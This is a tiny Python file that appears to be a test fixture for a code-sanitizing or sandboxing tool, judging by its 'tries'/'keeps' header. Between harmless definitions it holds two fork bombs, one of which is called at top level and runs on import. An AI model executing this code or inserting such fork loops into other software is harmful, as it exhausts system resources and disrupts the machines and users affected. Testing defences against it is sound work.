# tries: fork without end
# keeps: before f after
before = 1


def f(n):
    return 2 * n


import os


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            return


bomb()


def attack(n):
    while True:
        os.fork()


after = 2
